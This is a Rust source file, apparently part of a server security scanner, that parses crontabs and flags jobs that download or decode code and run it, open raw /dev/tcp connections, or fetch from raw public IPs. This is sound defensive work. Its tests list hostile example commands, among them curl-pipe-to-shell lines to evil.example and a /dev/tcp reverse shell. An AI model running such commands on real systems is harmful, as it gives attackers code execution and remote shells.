//! Cron jobs that download and run code: `curl … | sh`, `wget -O- | bash`, a
//! base64 blob decoded into a shell, `bash <(curl …)`, a file fetched and then
//! executed, a raw `/dev/tcp` connection, or a fetch from a raw public IP. A
//! site user's crontab is the classic place an intruder keeps a foothold
//! after the web shell is gone. Crontabs are tenant-written text: they are
//! only read and matched, never run, and what is shown is shortened with URL
//! credentials and long blobs masked.
//!
//! A normal `wget -q -O - https://site/wp-cron.php >/dev/null` or
//! `php wp-cron.php` job downloads nothing it runs and raises nothing.

use std::net::IpAddr;

use serde::{Deserialize, Serialize};

use crate::finding::{Category, Finding, Severity};
use crate::host::Host;
use crate::redact::Redactor;

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "lwp-download", "lwp-request", "GET", "aria2c", "tftp"];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "csh", "tcsh", "fish", "python", "python2", "python3", "perl", "php",
    "ruby", "node", "lua",
];
/// Words run before the real command (`sudo -u x bash`, `nohup sh`).
const WRAPPERS: &[&str] =
    &["sudo", "env", "nohup", "exec", "nice", "ionice", "timeout", "command", "busybox", "setsid"];

/// Directories whose scripts cron runs as root (each line is judged like a job).
const SCRIPT_DIRS: &[&str] = &["/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly"];

/// One suspicious job.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct CronHit {
    /// `file:line`.
    pub at: String,
    /// The account it runs as.
    pub user: String,
    /// What it does, in words.
    pub what: String,
}

/// What the crontabs held.
#[derive(Debug, Clone, Default, Serialize, Deserialize, schemars::JsonSchema)]
pub struct CronFacts {
    /// Crontab files read.
    pub files: usize,
    /// Jobs read.
    pub jobs: usize,
    /// Jobs that download or decode code and run it, or fetch from a raw IP.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub suspicious: Vec<CronHit>,
}

/// A verdict on one command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    /// Runs fetched or decoded code (else: only fetches from a raw IP).
    pub runs_code: bool,
    /// Why, in words.
    pub why: String,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    Pipe,
    Seq,
    Subst,
}

/// Split a shell command into segments and the separator before each.
fn segments(cmd: &str) -> Vec<(Sep, String)> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut sep = Sep::Start;
    let b: Vec<char> = cmd.chars().collect();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let next = b.get(i + 1).copied();
        let found = match (c, next) {
            ('|', Some('|')) | ('&', Some('&')) => Some((Sep::Seq, 2)),
            ('$', Some('(')) | ('<', Some('(')) => Some((Sep::Subst, 2)),
            ('|', _) => Some((Sep::Pipe, 1)),
            (';' | '&' | '\n' | ')' | '{' | '}', _) => Some((Sep::Seq, 1)),
            ('`' | '(', _) => Some((Sep::Subst, 1)),
            _ => None,
        };
        match found {
            Some((s, n)) => {
                // `2>&1`: a redirection, not a separator.
                if c == '&' && n == 1 && (cur.ends_with('>') || next == Some('>')) {
                    cur.push(c);
                    i += 1;
                    continue;
                }
                if !cur.trim().is_empty() {
                    out.push((sep, std::mem::take(&mut cur)));
                }
                cur.clear();
                sep = s;
                i += n;
            }
            None => {
                cur.push(c);
                i += 1;
            }
        }
    }
    if !cur.trim().is_empty() {
        out.push((sep, cur));
    }
    out
}

fn words(seg: &str) -> Vec<String> {
    seg.split_whitespace().map(|w| w.trim_matches(|c| c == '"' || c == '\'').to_string()).collect()
}

/// The program a segment runs, past wrappers, options and `VAR=value`.
fn head(words: &[String]) -> String {
    for w in words {
        let base = w.rsplit('/').next().unwrap_or(w);
        if w.starts_with('-') || (w.contains('=') && !w.starts_with('/')) || w.chars().all(|c| c.is_ascii_digit()) {
            continue;
        }
        if WRAPPERS.contains(&base) {
            continue;
        }
        return base.to_string();
    }
    String::new()
}

fn is_interpreter(h: &str) -> bool {
    INTERPRETERS.contains(&h) || h.strip_prefix("python3.").is_some_and(|v| v.chars().all(|c| c.is_ascii_digit()))
}

fn is_decoder(h: &str, w: &[String]) -> bool {
    let has = |f: &str| w.iter().any(|x| x == f);
    (h == "base64" && (has("-d") || has("--decode") || has("-D") || has("-di")))
        || (h == "openssl" && (has("-d") || has("base64")) && w.iter().any(|x| x.contains("base64") || x == "-a"))
        || (h == "xxd" && has("-r"))
        || h == "uudecode"
}

/// A downloader that saves to a file (`-o f`, `-O f`, `> f`), not to stdout or /dev/null.
fn saves_to_file(seg: &str, w: &[String]) -> bool {
    let mut it = w.iter().peekable();
    while let Some(x) = it.next() {
        if matches!(x.as_str(), "-o" | "-O" | "--output" | "--output-document") {
            if let Some(t) = it.peek() {
                if *t != "-" && *t != "/dev/null" {
                    return true;
                }
            }
        }
        if (x.starts_with("-O") || x.starts_with("-o"))
            && x.len() > 2
            && !x.starts_with("-O-")
            && !x.contains("/dev/null")
        {
            let v = &x[2..];
            if !v.starts_with('-') && v.contains('/') {
                return true;
            }
        }
    }
    seg.split('>').skip(1).any(|t| {
        let t = t.trim_start_matches(['>', '&']).trim();
        !t.is_empty() && !t.starts_with("/dev/null") && !t.starts_with('&') && !t.starts_with(char::is_numeric)
    })
}

/// Public IPs in `scheme://IP` URLs (loopback and private ones are a local wp-cron hit).
fn raw_public_ips(seg: &str) -> Vec<String> {
    let mut out = Vec::new();
    for part in seg.split("://").skip(1) {
        let host: String = part
            .trim_start_matches('[')
            .chars()
            .take_while(|c| c.is_ascii_hexdigit() || *c == '.' || *c == ':')
            .collect();
        let host = host.trim_end_matches(':');
        let Ok(ip) = host.parse::<IpAddr>() else { continue };
        let local = match ip {
            IpAddr::V4(v) => v.is_loopback() || v.is_private() || v.is_link_local() || v.is_unspecified(),
            IpAddr::V6(v) => {
                v.is_loopback() || (v.segments()[0] & 0xfe00) == 0xfc00 || (v.segments()[0] & 0xffc0) == 0xfe80
            }
        };
        if !local {
            out.push(ip.to_string());
        }
    }
    out
}

/// Judge one cron command.
pub fn judge(cmd: &str) -> Option<Verdict> {
    if cmd.contains("/dev/tcp/") || cmd.contains("/dev/udp/") {
        return Some(Verdict {
            runs_code: true,
            why: "opens a raw network connection through /dev/tcp (a reverse shell pattern)".into(),
        });
    }
    let segs = segments(cmd);
    let lower = cmd.to_ascii_lowercase();
    if ["b64decode", "base64_decode", "frombase64", "decode_base64"].iter().any(|m| lower.contains(m)) {
        if let Some(h) = segs.iter().map(|(_, s)| head(&words(s))).find(|h| is_interpreter(h)) {
            return Some(Verdict { runs_code: true, why: format!("`{h}` decodes and runs a base64 blob") });
        }
    }
    let mut pipe_fetch = false;
    let mut pipe_decode = false;
    let mut saved = false;
    let mut stmt_runner: Option<String> = None;
    let mut ips = Vec::new();
    for (sep, seg) in &segs {
        let w = words(seg);
        let h = head(&w);
        if *sep == Sep::Seq {
            pipe_fetch = false;
            pipe_decode = false;
            stmt_runner = None;
        }
        let fetches = DOWNLOADERS.contains(&h.as_str());
        if *sep == Sep::Pipe && is_interpreter(&h) && (pipe_fetch || pipe_decode) {
            let what =
                if pipe_fetch { "downloads code and pipes it into" } else { "decodes a hidden blob and pipes it into" };
            return Some(Verdict { runs_code: true, why: format!("{what} `{h}`") });
        }
        if *sep == Sep::Subst && (fetches || is_decoder(&h, &w)) {
            if let Some(r) = &stmt_runner {
                let what = if fetches { "downloaded" } else { "decoded" };
                return Some(Verdict {
                    runs_code: true,
                    why: format!("runs {what} code through `{r}` and a command substitution"),
                });
            }
        }
        if *sep == Sep::Seq && saved && (is_interpreter(&h) || h == "chmod" && seg.contains('x') || h.starts_with("./"))
        {
            return Some(Verdict { runs_code: true, why: format!("downloads a file and then runs it (`{h}`)") });
        }
        if is_interpreter(&h) || h == "eval" || h == "source" || h == "." {
            stmt_runner.get_or_insert(h.clone());
        }
        if fetches {
            pipe_fetch = true;
            saved |= saves_to_file(seg, &w);
            ips.extend(raw_public_ips(seg));
        }
        if is_decoder(&h, &w) {
            pipe_decode = true;
            saved |= saves_to_file(seg, &w);
        }
    }
    ips.first()
        .map(|ip| Verdict { runs_code: false, why: format!("fetches from a raw IP address ({ip}), not a named site") })
}

/// The command as shown in a finding: URL credentials and long blobs masked, shortened, redacted.
fn shown(cmd: &str) -> String {
    let mut out = String::new();
    for w in cmd.split(' ') {
        if !out.is_empty() {
            out.push(' ');
        }
        let blob = w.trim_matches(|c| c == '"' || c == '\'');
        let b64 = blob.chars().all(|c| c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '=');
        let mixed = blob.chars().any(|c| c.is_ascii_uppercase())
            && blob.chars().any(|c| c.is_ascii_lowercase())
            && blob.chars().any(|c| c.is_ascii_digit());
        if b64 && (blob.len() >= 40 || (blob.len() >= 16 && mixed && !blob.starts_with('/'))) {
            out.push_str(&format!("<blob of {} characters>", blob.len()));
        } else if let Some((scheme, rest)) =
            w.split_once("://").filter(|(_, r)| r.split('/').next().is_some_and(|h| h.contains('@')))
        {
            let after = rest.split_once('@').map(|(_, a)| a).unwrap_or(rest);
            out.push_str(&format!("{scheme}://***@{after}"));
        } else {
            out.push_str(w);
        }
    }
    let mut s = Redactor::global().text(&out).into_owned();
    if s.chars().count() > 200 {
        s = s.chars().take(200).collect::<String>() + "…";
    }
    s
}

/// `(schedule, user, command)` of one crontab line; `None` for blanks, comments and variables.
fn parse_line(line: &str, user: Option<&str>) -> Option<(String, String, String)> {
    let t = line.trim();
    if t.is_empty() || t.starts_with('#') {
        return None;
    }
    let first = t.split_whitespace().next()?;
    // `NAME=value` (also `NAME = value`) sets a variable.
    let key_end = t.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(t.len());
    if key_end > 0 && !t.starts_with(|c: char| c.is_ascii_digit()) && t[key_end..].trim_start().starts_with('=') {
        return None;
    }
    let n_time = if first.starts_with('@') { 1 } else { 5 };
    let n = n_time + usize::from(user.is_none());
    let mut rest = t;
    let mut fields = Vec::new();
    for _ in 0..n {
        rest = rest.trim_start();
        let end = rest.find(char::is_whitespace)?;
        fields.push(&rest[..end]);
        rest = &rest[end..];
    }
    let who = user.map(str::to_string).or_else(|| fields.last().map(|u| u.to_string()))?;
    Some((fields[..n_time].join(" "), who, rest.trim().to_string()))
}

/// Read every crontab and judge its jobs.
pub fn check(host: &Host, facts: &mut CronFacts, findings: &mut Vec<Finding>, problems: &mut Vec<String>) {
    // (path, Some(user) for a user crontab / None for a system one / "script")
    let mut files: Vec<(String, Option<String>, bool)> = vec![("/etc/crontab".into(), None, false)];
    let list = |dir: &str, problems: &mut Vec<String>| match host.read_dir(dir) {
        Ok(n) => n,
        Err(e) if e.is_not_found() => Vec::new(),
        Err(e) => {
            problems.push(format!("{dir}: {e}"));
            Vec::new()
        }
    };
    // cron (Debian) ignores /etc/cron.d names with a dot or ending in `~`.
    for n in list("/etc/cron.d", problems).into_iter().filter(|n| !n.contains('.') && !n.ends_with('~')) {
        files.push((format!("/etc/cron.d/{n}"), None, false));
    }
    for n in list("/var/spool/cron/crontabs", problems) {
        files.push((format!("/var/spool/cron/crontabs/{n}"), Some(n), false));
    }
    for n in
        list("/var/spool/cron", problems).into_iter().filter(|n| n != "crontabs" && n != "atjobs" && n != "atspool")
    {
        if host.metadata(&format!("/var/spool/cron/{n}")).is_ok_and(|m| m.is_file()) {
            files.push((format!("/var/spool/cron/{n}"), Some(n), false));
        }
    }
    for d in SCRIPT_DIRS {
        for n in list(d, problems) {
            files.push((format!("{d}/{n}"), Some("root".into()), true));
        }
    }
    for (path, user, script) in files {
        let text = match host.read_head(&path, 256 * 1024) {
            Ok(t) => t,
            Err(e) if e.is_not_found() => continue,
            Err(e) => {
                problems.push(e.to_string());
                continue;
            }
        };
        facts.files += 1;
        for (i, line) in text.lines().enumerate() {
            let parsed = if script {
                let t = line.trim();
                (!t.is_empty() && !t.starts_with('#'))
                    .then(|| ("(script)".to_string(), "root".to_string(), t.to_string()))
            } else {
                parse_line(line, user.as_deref())
            };
            let Some((schedule, who, cmd)) = parsed else { continue };
            if !script {
                facts.jobs += 1;
            }
            let Some(v) = judge(&cmd) else { continue };
            let at = format!("{path}:{}", i + 1);
            facts.suspicious.push(CronHit { at: at.clone(), user: who.clone(), what: v.why.clone() });
            let (id, sev, title) = if v.runs_code {
                ("hardening.cron-download-exec", Severity::High, format!("A cron job of {who} {}", v.why))
            } else {
                ("hardening.cron-raw-ip", Severity::Medium, format!("A cron job of {who} {}", v.why))
            };
            let modified = host
                .metadata(&path)
                .ok()
                .and_then(|m| m.modified().ok())
                .map(|t| super::date(crate::host::unix_secs(t)))
                .unwrap_or_else(|| "unknown".into());
            let edit = if user.is_some() && !script {
                format!("`crontab -u {who} -e`")
            } else {
                format!("your editor on {path}")
            };
            findings.push(
                Finding::new(id, sev, Category::Hardening, at.clone(), title)
                    .evidence(format!("{at} ({schedule}, runs as {who}): {}", shown(&cmd)))
                    .evidence(format!("{path} last modified {modified}"))
                    .fix(format!(
                        "Do not run it. Keep a copy for the investigation (`cp -p {path} /root/`), remove the line with \
                         {edit}, then find how it got there: {who}'s other files, web shells in its sites, `last {who}`. \
                         If nobody here added it, treat the host as compromised."
                    )),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn download_and_run_is_caught_in_its_usual_forms() {
        for cmd in [
            "curl -fsSL http://evil.example/x.sh | sh",
            "wget -q -O- https://evil.example/a | bash",
            "/usr/bin/curl -s https://evil.example/a|/bin/bash -s",
            "echo ZWNobyBoaQ== | base64 -d | bash",
            "echo ZWNobyBoaQ== | base64 --decode | sudo sh",
            "bash <(curl -s https://evil.example/a)",
            "sh -c \"$(wget -qO- https://evil.example/a)\"",
            "eval `curl -s https://evil.example/a`",
            "cd /tmp && wget https://evil.example/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k",
            "curl -o /tmp/.x https://evil.example/x; sh /tmp/.x",
            "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\"",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        ] {
            let v = judge(cmd).unwrap_or_else(|| panic!("missed: {cmd}"));
            assert!(v.runs_code, "{cmd}: {v:?}");
        }
    }

    #[test]
    fn normal_jobs_raise_nothing() {
        for cmd in [
            "wget -q -O - https://shop.example.org/wp-cron.php?doing_wp_cron >/dev/null 2>&1",
            "wget -q -O - http://127.0.0.1/wp-cron.php >/dev/null 2>&1",
            "curl -s https://shop.example.org/wp-cron.php > /dev/null 2>&1",
            "cd /var/www/shop && php wp-cron.php",
            "/usr/bin/php /var/www/shop/wp-cron.php >/dev/null 2>&1",
            "cd / && run-parts --report /etc/cron.hourly",
            "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "mysqldump --all-databases | gzip > /var/backups/all.sql.gz",
            "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
            "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/abc",
        ] {
            assert_eq!(judge(cmd), None, "{cmd}");
        }
    }

    #[test]
    fn hostile_lines_never_panic() {
        for cmd in [
            "|",
            "||",
            "|||",
            "$(",
            "`",
            "<(",
            ")",
            "-O",
            "curl -O",
            "curl -o",
            "wget -O-",
            "://",
            "http://[",
            "http://[::",
            "curl http://\u{202e}1.2.3.4/",
            "curl ://@",
            "é|sh",
            "curl é -oé",
            "base64 -d |",
            "> >",
            "2>&",
            "&>",
        ] {
            let _ = judge(cmd);
            let _ = shown(cmd);
            let _ = parse_line(cmd, None);
        }
        let long = format!("{}sh", "curl x | ".repeat(10_000));
        assert!(judge(&long).is_some_and(|v| v.runs_code));
    }

    #[test]
    fn a_raw_public_ip_is_noted_without_running() {
        let v = judge("wget -q http://198.51.100.7/update.txt -O /dev/null").unwrap();
        assert!(!v.runs_code);
        assert!(v.why.contains("198.51.100.7"));
    }

    #[test]
    fn lines_parse_in_both_formats() {
        let (s, u, c) = parse_line("*/5 * * * * www-data curl x | sh", None).unwrap();
        assert_eq!((s.as_str(), u.as_str(), c.as_str()), ("*/5 * * * *", "www-data", "curl x | sh"));
        let (s, u, c) = parse_line("@reboot wget -O- x|bash", Some("shop")).unwrap();
        assert_eq!((s.as_str(), u.as_str(), c.as_str()), ("@reboot", "shop", "wget -O- x|bash"));
        assert_eq!(parse_line("MAILTO=\"\"", None), None);
        assert_eq!(parse_line("SHELL=/bin/sh", None), None);
        assert_eq!(parse_line("# m h dom mon dow user command", None), None);
        assert_eq!(parse_line("* * *", None), None);
    }

    #[test]
    fn shown_masks_blobs_and_url_credentials() {
        let s = shown(
            "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8= | base64 -d | sh; curl https://bob:hunter2@x.example/a",
        );
        assert!(!s.contains("aGVsbG8"), "{s}");
        assert!(!s.contains("hunter2"), "{s}");
        assert!(s.contains("<blob of"), "{s}");
    }
}
